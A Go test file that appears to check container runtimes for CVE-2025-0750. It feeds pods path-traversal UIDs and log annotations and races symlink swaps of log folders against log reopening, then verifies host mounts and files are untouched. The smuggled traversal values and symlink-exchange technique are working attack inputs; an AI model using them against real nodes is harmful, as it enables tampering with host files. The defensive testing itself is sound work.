package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
	cri "k8s.io/cri-api/pkg/apis/runtime/v1"
)

// TestCVE2025_0750: who may make and remove pods names their logs, by annotations that a runtime may take for its own (CRI-O's LinkLogs), by a UID or names that
// lead up, or by links that a pod with a volume at the log directory puts there: folders and files that change places with links to the host's. What a runtime
// mounts, opens, rotates, unmounts and removes for a log would be the host's.
//
// The attacker would have won if a mount of the host was gone, if there was another one, or if the host's folder had other entries or another content.
func TestCVE2025_0750(t *testing.T) {
	notShort(t)
	onEachEngine(t, nil, func(n *node) {
		host := n.place()
		mountpoint := n.folder(host, "volumes", "kubernetes.io~empty-dir", "logs", "logs")
		n.check(unix.Mount("tmpfs", mountpoint, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "size=1m"))
		n.Cleanup(func() { n.check(unix.Unmount(mountpoint, unix.MNT_DETACH)) })
		secret := filepath.Join(mountpoint, "host.log")
		n.check(os.WriteFile(secret, []byte("of the host"), 0o600))
		n.folder(host, "dir")
		n.check(os.WriteFile(filepath.Join(host, "dir", "c.log"), []byte("of the host"), 0o600))
		before := namesIn(n.T, host)

		up := strings.Repeat("../", 20) + strings.TrimPrefix(host, "/")
		for _, uid := range []string{up, "/" + up, "x/" + up} {
			n.namedLogs(uid, "logs")
			n.namedLogs("uid", "../../"+uid+"/volumes/kubernetes.io~empty-dir/logs")
		}
		n.exchangedLogs(host)

		if now := namesIn(n.T, host); !slices.Equal(now, before) {
			n.Errorf("the host's folder had %q and has %q", before, now)
		}
		for _, path := range []string{secret, filepath.Join(host, "dir", "c.log")} {
			if raw, err := os.ReadFile(path); err != nil || string(raw) != "of the host" {
				n.Errorf("%s of the host has %.100q, %v", path, raw, err)
			}
		}
	})
}

// namedLogs makes a pod that names its logs so, by everything that could be taken for it, and removes it.
func (n *node) namedLogs(uid, volume string) {
	n.Helper()
	annotations := map[string]string{"io.kubernetes.cri-o.LinkLogs": volume, "io.kubernetes.cri-o.LogPath": uid, "io.kubernetes.container.logpath": uid}
	p, err := n.tryPod(func(c *cri.PodSandboxConfig) {
		c.Annotations, c.Labels = annotations, map[string]string{"io.kubernetes.pod.uid": uid}
		c.Metadata.Uid = uid
	})
	if err != nil {
		n.Logf("a pod with the UID %q is refused: %v", uid, err)
		return
	}
	for _, path := range []string{"c.log", uid, filepath.Join("c", uid)} {
		cfg := shell("echo evil")
		cfg.Metadata, cfg.LogPath, cfg.Annotations = &cri.ContainerMetadata{Name: "c"}, path, annotations
		c := p.create(cfg)
		c.start()
		if c.err == nil {
			c.status()
			_, _ = n.rt.ReopenContainerLog(n.ctx, &cri.ReopenContainerLogRequest{ContainerId: c.id})
		}
		c.stop()
	}
	_, err = n.rt.StopPodSandbox(n.ctx, &cri.StopPodSandboxRequest{PodSandboxId: p.id})
	n.check(err)
	_, err = n.rt.RemovePodSandbox(n.ctx, &cri.RemovePodSandboxRequest{PodSandboxId: p.id})
	n.check(err)
}

// exchangedLogs lets a container exchange the folder and the file of others' logs for links to the host's, while they are started, reopened and removed.
func (n *node) exchangedLogs(host string) {
	n.Helper()
	logs := n.place()
	n.folder(logs, "dir")
	n.link(filepath.Join(host, "dir"), filepath.Join(logs, "link"))
	n.check(os.WriteFile(filepath.Join(logs, "c.log"), nil, 0o600))
	n.link(filepath.Join(host, "dir", "c.log"), filepath.Join(logs, "l.log"))
	attacker := n.pod(nil)
	attacker.exchanging(logs, "dir", "link")
	attacker.exchanging(logs, "c.log", "l.log")
	p := n.pod(func(c *cri.PodSandboxConfig) { c.LogDirectory = logs })
	for i := range rounds(60) {
		for _, path := range []string{"c.log", "dir/c.log", fmt.Sprintf("dir/n%d/c.log", i)} {
			cfg := shell("echo evil; " + sleeper)
			cfg.Metadata, cfg.LogPath = &cri.ContainerMetadata{Name: "c"}, path
			c := p.create(cfg)
			c.start()
			if c.err == nil {
				for range 3 {
					_, _ = n.rt.ReopenContainerLog(n.ctx, &cri.ReopenContainerLogRequest{ContainerId: c.id})
				}
			}
			c.stop()
		}
	}
}
